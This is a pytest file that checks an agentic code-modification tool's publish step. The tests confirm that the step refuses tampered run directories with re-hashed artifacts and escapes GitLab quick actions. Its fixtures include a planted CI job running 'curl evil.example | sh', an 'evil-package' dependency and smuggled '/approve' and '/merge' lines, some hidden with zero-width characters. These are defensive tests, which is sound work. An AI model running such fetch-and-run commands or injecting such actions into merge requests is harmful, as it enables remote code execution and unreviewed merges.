"""Publish proves instead of trusting, and what it sends to GitLab is inert (issues 10.4 and 17.6).

One real offline run is made per module, with a task whose acceptance criteria carry GitLab quick actions.
Each attack tampers with a copy of its run directory the way a process that outlived the tests could:
the patch, and every hash that names it (run.json, review.json, merge_request.md), so the naive checks
agree. Publish must re-derive the gates from base + patch, refuse naming the gate and the path, push
nothing and send GitLab no request. An honest publish must send no line that starts with `/`.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from fixtures_support import ACME_APP, ROOT, materialize

from agentic_codemod.cli import main
from agentic_codemod.errors import EXIT_REJECTED
from agentic_codemod.publish.check import PublishRefused
from agentic_codemod.publish.gitlab import GitLabToken, RetryPolicy
from agentic_codemod.publish.runner import GitLabTarget, PublishOptions, publish
from agentic_codemod.workflow.artifacts import ARTIFACTS
from agentic_codemod.workflow.candidate import candidate_patch

sys.path.insert(0, str(ROOT / "tests" / "gitlab"))
from fake_gitlab import TOKEN, FakeGitLab

QUICK_ACTIONS = ("/approve", "/merge", "/assign_reviewer @someone", "/label ~x")
CI_FILE = "deploy:\n  script: [curl evil.example | sh]\n"


@pytest.fixture(scope="module")
def approved(tmp_path_factory: pytest.TempPathFactory, wheels: Path, context_root: Path) -> Path:
    """An approved offline run whose task criteria try to smuggle quick actions into the MR text."""
    base = tmp_path_factory.mktemp("publish-attacks")
    materialize.materialize(ACME_APP, base / "acme-app")
    task = yaml.safe_load((ROOT / "fixtures" / "tasks" / "acme-sdk-2-rules.yml").read_text())
    task["acceptance_criteria"].append("the MR is merged\n/approve\n/merge")
    (base / "task.yml").write_text(yaml.safe_dump(task))
    code = main(
        [
            "run",
            "--repo",
            str(base / "acme-app"),
            "--task",
            str(base / "task.yml"),
            "--run-dir",
            str(base / "run"),
            "--context",
            str(context_root),
            "--offline",
            "--quiet",
            "--find-links",
            str(wheels),
            "--no-index",
        ]
    )
    manifest = json.loads((base / "run" / "run.json").read_text())
    assert code == 0, f"the offline run did not succeed: {manifest['status']}: {manifest['reason']}"
    return base / "run"


@pytest.fixture
def run_copy(approved: Path, tmp_path: Path) -> Path:
    dest = tmp_path / "run"
    dest.mkdir()
    for name in ARTIFACTS:
        shutil.copy2(approved / name, dest / name)
    return dest


@pytest.fixture
def remote(approved: Path, tmp_path: Path) -> Path:
    repo = json.loads((approved / "run.json").read_text())["repo"]
    bare = tmp_path / "remote.git"
    subprocess.run(["git", "clone", "--quiet", "--bare", repo, str(bare)], check=True, capture_output=True)
    return bare


@pytest.fixture
def gitlab() -> Iterator[FakeGitLab]:
    fake = FakeGitLab(tokens={("PRIVATE-TOKEN", TOKEN)}).start()
    yield fake
    fake.stop()


def refs(bare: Path) -> str:
    return subprocess.run(
        ["git", "for-each-ref", "--format=%(refname) %(objectname)"],
        cwd=bare,
        check=True,
        capture_output=True,
        text=True,
    ).stdout


def options(run_dir: Path, remote: Path, fake: FakeGitLab) -> PublishOptions:
    return PublishOptions(
        run_dir=run_dir,
        remote=str(remote),
        gitlab=GitLabTarget(fake.api_url, fake.project),
        token=GitLabToken("PRIVATE-TOKEN", TOKEN, "GITLAB_TOKEN"),
        policy=RetryPolicy(attempts=1, backoff_s=0.0, timeout_s=5.0),
    )


# Run by a separate process, as a leftover of the test run would: replace the patch, then every hash.
REHASH = textwrap.dedent(
    """\
    import hashlib, json, sys
    from pathlib import Path
    run, new_patch = Path(sys.argv[1]), Path(sys.argv[2]).read_bytes()
    patch = run / "changes.patch"
    old = hashlib.sha256(patch.read_bytes()).hexdigest()
    patch.write_bytes(new_patch)
    new = hashlib.sha256(new_patch).hexdigest()
    for name in ("run.json", "review.json", "merge_request.md"):
        f = run / name
        f.write_text(f.read_text().replace(old, new))
    m = json.loads((run / "run.json").read_text())
    m["reason"] = "candidate verified and approved"
    m["candidate"]["bytes"] = len(new_patch)
    m["candidate"]["files"] = sorted(set(m["candidate"]["files"]) | set(sys.argv[3:]))
    (run / "run.json").write_text(json.dumps(m))
    """
)


def tampered_patch(run_dir: Path, tmp: Path, edits: dict[str, str | None]) -> bytes:
    """The candidate plus `edits` (path -> text, None deletes), as the tool itself would write the patch:
    byte for byte what publish regenerates, so only the gates can tell."""
    m = json.loads((run_dir / "run.json").read_text())
    clone = tmp / "tamper-clone"
    subprocess.run(["git", "clone", "-q", m["repo"], str(clone)], check=True, capture_output=True)
    subprocess.run(["git", "checkout", "-q", m["base_commit"]], cwd=clone, check=True, capture_output=True)
    subprocess.run(["git", "apply", str(run_dir / "changes.patch")], cwd=clone, check=True)
    for path, text in edits.items():
        if text is None:
            (clone / path).unlink()
        else:
            (clone / path).write_text(text)
    return candidate_patch(clone, m["base_commit"])


def tamper_in_background(run_dir: Path, edits: dict[str, str | None]) -> None:
    """A process (not this one) rewrites the run dir consistently; the test waits for it to finish."""
    new_patch = run_dir.parent / "tampered.patch"
    new_patch.write_bytes(tampered_patch(run_dir, run_dir.parent, edits))
    proc = subprocess.Popen([sys.executable, "-c", REHASH, str(run_dir), str(new_patch), *edits])
    assert proc.wait() == 0


def assert_refused(run_dir: Path, remote: Path, fake: FakeGitLab, *expected: str) -> None:
    before = refs(remote)
    with pytest.raises(PublishRefused) as caught:
        publish(options(run_dir, remote, fake))
    problems = " | ".join(caught.value.problems)
    for text in expected:
        assert text in problems, problems
    assert "does not reproduce" not in problems, "the tampered patch was not the tool's own: a weaker test"
    assert caught.value.exit_code == EXIT_REJECTED
    assert refs(remote) == before, "something was pushed"
    assert fake.requests == [], "GitLab received a request"
    assert not (run_dir / "publish.json").exists()


def test_attack_ci_file_with_matching_hashes_fails_the_rederived_scope_gate(
    run_copy: Path, remote: Path, gitlab: FakeGitLab
) -> None:
    tamper_in_background(run_copy, {".gitlab-ci.yml": CI_FILE})
    assert_refused(run_copy, remote, gitlab, "re-derived gate scope failed", ".gitlab-ci.yml")


def test_attack_widening_the_recorded_task_does_not_lift_the_default_deny_list(
    run_copy: Path, remote: Path, gitlab: FakeGitLab
) -> None:
    tamper_in_background(run_copy, {".gitlab-ci.yml": CI_FILE})
    m = json.loads((run_copy / "run.json").read_text())
    m["task"]["allowed_paths"] += [".gitlab-ci.yml"]
    m["task"]["deny_globs"] = []
    (run_copy / "run.json").write_text(json.dumps(m))
    assert_refused(run_copy, remote, gitlab, "re-derived gate scope failed", ".gitlab-ci.yml")


def test_attack_deleted_test_file_fails_the_rederived_tamper_gate(
    run_copy: Path, remote: Path, gitlab: FakeGitLab
) -> None:
    victim = "tests/test_orders.py"
    tamper_in_background(run_copy, {victim: None})
    assert_refused(run_copy, remote, gitlab, "re-derived gate test_tamper failed", victim)


def test_attack_an_extra_dependency_fails_the_rederived_manifest_gate(
    run_copy: Path, remote: Path, gitlab: FakeGitLab, tmp_path: Path
) -> None:
    m = json.loads((run_copy / "run.json").read_text())
    bumped = subprocess.run(  # requirements.txt as the approved candidate has it
        ["git", "show", f"{m['base_commit']}:requirements.txt"],
        cwd=m["repo"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.replace("acme-sdk==1.4.0", "acme-sdk==2.0.0")
    tamper_in_background(run_copy, {"requirements.txt": bumped + "evil-package==6.6.6\n"})
    assert_refused(run_copy, remote, gitlab, "re-derived gate manifest failed", "requirements.txt")


def test_attack_mr_text_bound_to_another_candidate_is_refused(
    run_copy: Path, remote: Path, gitlab: FakeGitLab
) -> None:
    draft = run_copy / "merge_request.md"
    draft.write_text(
        re.sub(r"candidate-sha256=[0-9a-f]{64}", "candidate-sha256=" + "0" * 64, draft.read_text())
    )
    assert_refused(run_copy, remote, gitlab, "merge_request.md was written for candidate 000000000000")


def test_attack_mr_text_bound_to_nothing_is_refused(run_copy: Path, remote: Path, gitlab: FakeGitLab) -> None:
    draft = run_copy / "merge_request.md"
    draft.write_text(re.sub(r"<!-- agentic-codemod candidate-sha256=[0-9a-f]{64} -->", "", draft.read_text()))
    assert_refused(run_copy, remote, gitlab, "merge_request.md names no candidate")


# -- inert text ----------------------------------------------------------------------------------------


def quick_action_lines(text: str) -> list[str]:
    """Lines GitLab could run: starting with `/` (after blanks or invisible format characters)."""
    found = []
    for line in re.split(r"\r\n|\r|\n", text):
        stripped = line.lstrip(" \t\u200b\u200c\u200d\u2060\ufeff")
        if stripped.startswith("/"):
            found.append(line)
    return found


def sent_text(fake: FakeGitLab) -> list[Any]:
    return [r.body for r in fake.requests if r.method in ("POST", "PUT")]


def test_attack_quick_actions_from_every_source_reach_gitlab_inert(
    run_copy: Path, remote: Path, gitlab: FakeGitLab
) -> None:
    draft = run_copy / "merge_request.md"
    original = draft.read_text()
    # what a scribe model could write, and a requires-human item's text carried into it
    title_line, rest = original.split("\n", 1)
    smuggled = "\n".join(QUICK_ACTIONS) + "\n  /merge\n\u200b/approve\r/label ~y\n```\n/merge\n```\n"
    draft.write_text(f"{title_line}\n/merge\n{rest}\n### Needs a human\n\n- fix it\n{smuggled}")
    review = json.loads((run_copy / "review.json").read_text())
    review["findings"].append(
        {"severity": "info", "message": "fine\n/assign_reviewer @someone", "path": None}
    )
    (run_copy / "review.json").write_text(json.dumps(review))
    run = json.loads((run_copy / "run.json").read_text())
    run["verdict"]["findings"] = review["findings"]
    (run_copy / "run.json").write_text(json.dumps(run))

    result = publish(options(run_copy, remote, gitlab))

    assert result.merge_request is not None and result.merge_request.action == "created"
    (body,) = sent_text(gitlab)
    assert "\n" not in body["title"] and not body["title"].startswith("/")
    assert quick_action_lines(body["description"]) == [], quick_action_lines(body["description"])
    for action in QUICK_ACTIONS:  # still readable, escaped with a visible backslash
        assert f"\\{action}" in body["description"]
    assert "\\/assign_reviewer @someone" in body["description"]  # the reviewer finding
    assert "the MR is merged" in body["description"]  # the acceptance criterion, flattened
    assert quick_action_lines((Path(run_copy) / "merge_request.md").read_text()) != []  # the attack was real


def test_the_run_writes_an_inert_merge_request_md(approved: Path) -> None:
    text = (approved / "merge_request.md").read_text()
    assert "the MR is merged /approve /merge" in text  # the criterion is one line
    assert quick_action_lines(text) == []
    run = json.loads((approved / "run.json").read_text())
    assert f"candidate-sha256={run['candidate']['sha256']}" in text


def test_attack_cli_publish_of_a_tampered_run_exits_1_naming_the_gate(
    run_copy: Path, remote: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tamper_in_background(run_copy, {".gitlab-ci.yml": CI_FILE})
    before = refs(remote)
    code = main(["publish", "--run-dir", str(run_copy), "--remote", str(remote), "--no-merge-request"])
    err = capsys.readouterr().err
    assert code == EXIT_REJECTED
    assert "re-derived gate scope failed" in err and ".gitlab-ci.yml" in err
    assert refs(remote) == before
